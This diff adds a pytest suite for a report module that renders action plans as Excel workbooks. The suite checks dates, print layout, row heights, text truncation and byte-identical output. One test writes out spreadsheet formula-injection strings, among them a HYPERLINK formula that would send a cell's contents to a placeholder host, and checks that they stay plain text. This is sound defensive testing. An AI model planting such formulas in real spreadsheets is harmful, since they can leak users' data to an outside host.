@@ -1,0 +1,137 @@
+"""The workbook: what is text stays text, what is a day is a day, and it prints as the paper does."""
+
+import io
+import zipfile
+from datetime import date, datetime
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+
+from reports.appendix import render, sheetkit
+from reports.appendix.plansheet import pieces
+from tests.reports import factories as make
+from tests.reports.appendix.reading import OPTIONS, book, missing, sheet_text
+from tests.reports.appendix.rendered import MAKERS, rendered, state
+from tests.reports.states import plans
+
+
+def opened(name):
+    return book(rendered(name, "xlsx"))
+
+
+@pytest.mark.parametrize("name", MAKERS)
+def test_every_printed_text_is_on_the_sheets(name):
+    found = "\n".join(sheet_text(sheet) for sheet in opened(name))
+    unescaped = found.replace("_x005F_", "_")
+    assert missing(state(name), unescaped) == []
+
+
+@given(plan=plans())
+@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+def test_any_plan_makes_a_workbook_without_formulas(plan):
+    for sheet in book(render(plan, OPTIONS, "xlsx")):
+        assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type in ("f", "e")]
+
+
+def test_text_that_looks_like_a_formula_or_an_error_stays_text():
+    values = {cell.value: cell.data_type for row in opened("hostile")["Data"].iter_rows() for cell in row}
+    assert values['=HYPERLINK("http://host.invalid/?"&A1,"Click me")'] == "s"
+    assert values["@SUM(1)"] == "s"
+    assert values["=1+1"] == "s"
+
+
+def test_what_excel_would_take_for_an_escape_is_escaped():
+    assert sheetkit.text("_x000D_ stays") == "_x005F_x000D_ stays"
+    assert sheetkit.text("a_b_c") == "a_b_c"
+
+
+def test_days_are_real_days():
+    due = [cell.value for cell in column(opened("nine_columns")["Data"], "Due")]
+    assert due[0] == datetime(2026, 5, 31)
+    assert all(value is None or isinstance(value, datetime) for value in due)
+
+
+def test_a_cell_of_the_paper_that_is_one_day_is_a_real_day():
+    sheet = opened("nine_columns")["Appendix"]
+    cells = column(sheet, "Timescale", header=4)
+    days = [cell for cell in cells if isinstance(cell.value, datetime)]
+    assert days and all(cell.number_format == "d mmmm yyyy" for cell in days)
+
+
+def test_a_day_before_excels_calendar_is_text():
+    sheet = book(render(make.plan(), OPTIONS, "xlsx")).active
+    assert sheetkit.put(sheet, 9, 1, date(1899, 12, 31), sheetkit.PLAIN).data_type == "s"
+
+
+def column(sheet, heading, header=1):
+    at = next(cell.column for cell in sheet[header] if cell.value == heading)
+    return [sheet.cell(row=row, column=at) for row in range(header + 1, sheet.max_row + 1)]
+
+
+def test_the_data_has_one_row_an_action():
+    sheet = opened("nine_columns")["Data"]
+    assert sheet.max_row - 1 == len(state("nine_columns").actions)
+    assert sheet.auto_filter.ref.startswith("A1:") and sheet.freeze_panes == "A2"
+
+
+def test_the_counts_on_the_summary_add_up():
+    rows = [[cell.value for cell in row] for row in opened("nine_columns")["Summary"].iter_rows(min_row=4)]
+    heading, *bands, total = (row for row in rows if row[0])
+    assert heading[-3:] == ["– Not rated", "Total", "Past date"]
+    assert total[1:] == [sum(band[at] for band in bands) for at in range(1, len(total))]
+    assert sum(total[1:-2]) == total[-2] == 43
+
+
+@pytest.mark.parametrize("name", ["nine_columns", "bullets", "with_glossary"])
+def test_it_prints_landscape_to_the_width_of_a_page_under_its_header(name):
+    sheet = opened(name)["Appendix"]
+    assert sheet.page_setup.orientation == "landscape"
+    assert sheet.sheet_properties.pageSetUpPr.fitToPage
+    assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
+    assert sheet.print_title_rows == "$4:$4"
+    assert sheet.freeze_panes == "A5"
+    assert sheet.auto_filter.ref.startswith("A4:")
+
+
+def test_every_row_that_is_written_has_a_height():
+    sheet = opened("bullets")["Appendix"]
+    assert all(sheet.row_dimensions[row].height for row in range(1, sheet.max_row + 1))
+
+
+def test_a_cell_taller_than_a_row_goes_on_in_the_next_rows():
+    sheet = opened("cell_longer_than_a_page")["Appendix"]
+    assert max(sheet.row_dimensions[row].height for row in range(1, sheet.max_row + 1)) <= sheetkit.TALLEST
+    words = " ".join(cell.value for cell in column(sheet, "Action", header=4) if cell.value).split()
+    assert [word for word in words if word.startswith("long")] == [f"long{at}" for at in range(3000)]
+
+
+def test_a_spanning_recommendation_has_rows_enough_for_its_words():
+    sheet = opened("recommendation_longer_than_a_page")["Appendix"]
+    (area,) = (found for found in sheet.merged_cells.ranges if found.min_col == found.max_col == 1)
+    tall = sum(sheet.row_dimensions[row].height for row in range(area.min_row, area.max_row + 1))
+    wide = sheet.column_dimensions["A"].width * 7 * 0.75
+    assert tall >= sheetkit.LEADING * sheetkit.lines_of(sheet.cell(area.min_row, 1).value, wide)
+
+
+def test_a_text_that_fits_a_row_is_not_altered():
+    words = "First paragraph\n\n  second   paragraph"
+    assert pieces(words, 200) == [(words, 3)]
+
+
+def test_a_text_longer_than_a_cell_can_hold_says_that_it_was_cut():
+    long = sheetkit.text("word " * 10_000)
+    assert len(long) <= 32_767 and long.endswith(sheetkit.CUT)
+
+
+def test_an_ampersand_does_not_become_a_code_in_the_footer():
+    plan = make.plan(organisation="Health & Care")
+    sheet = book(render(plan, OPTIONS, "xlsx"))["Appendix"]
+    assert "Health && Care" in sheet.oddFooter.left.text
+
+
+def test_it_is_the_same_bytes_from_run_to_run_and_tells_no_time():
+    again = render(state("bullets"), OPTIONS, "xlsx")
+    assert again == rendered("bullets", "xlsx")
+    with zipfile.ZipFile(io.BytesIO(again)) as archive:
+        assert {member.date_time for member in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
+        assert b"2026-11-22T00:00:00Z" in archive.read("docProps/core.xml")
